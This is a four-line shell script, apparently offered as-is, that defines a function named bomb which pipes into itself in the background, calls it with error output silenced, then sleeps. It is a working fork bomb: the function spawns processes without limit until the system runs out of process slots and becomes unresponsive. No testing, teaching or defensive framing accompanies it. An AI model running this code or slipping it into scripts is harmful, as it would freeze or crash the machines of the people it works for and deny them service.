# Processes that make processes until there can be no more.
bomb() { bomb | bomb & }
bomb 2>/dev/null
sleep 30
